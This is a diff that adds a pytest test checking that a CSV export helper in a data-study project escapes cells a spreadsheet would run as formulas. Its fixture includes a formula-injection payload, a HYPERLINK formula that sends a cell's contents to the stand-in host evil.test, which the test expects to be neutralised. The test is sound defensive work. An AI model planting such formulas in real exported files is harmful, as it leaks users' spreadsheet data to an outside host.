@@ -130,6 +130,33 @@ def test_parquet_and_csv_exports_hold_every_table(study: consentlens.Study, tmp_
     assert sites["banner_found"].dtype == "boolean"
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    from consentlens.study import _spreadsheet_safe
+
+    frame = pd.DataFrame(
+        {
+            "title": ['=HYPERLINK("https://evil.test/?"&A1)', "+1", "-2", "@SUM(A1)", "\tx", "ok"],
+            "value": [1, 2, 3, 4, 5, 6],
+            "note": [None, "a=b", "", "=1", "plain", "-"],
+        }
+    )
+    safe = _spreadsheet_safe(frame)
+    assert list(safe["title"]) == [
+        '\'=HYPERLINK("https://evil.test/?"&A1)',
+        "'+1",
+        "'-2",
+        "'@SUM(A1)",
+        "'\tx",
+        "ok",
+    ]
+    assert list(safe["value"]) == [1, 2, 3, 4, 5, 6], "numbers are not text"
+    assert safe["note"].isna()[0] and list(safe["note"][1:]) == ["a=b", "", "'=1", "plain", "'-"]
+    assert frame["title"][0].startswith("="), "the frame given is left as it was"
+    path = tmp_path / "t.csv"
+    safe.to_csv(path, index=False)
+    assert pd.read_csv(path)["title"][1] == "'+1"
+
+
 def test_summary_and_display(study: consentlens.Study) -> None:
     summary = study.summary()
     assert summary["total"] == 5
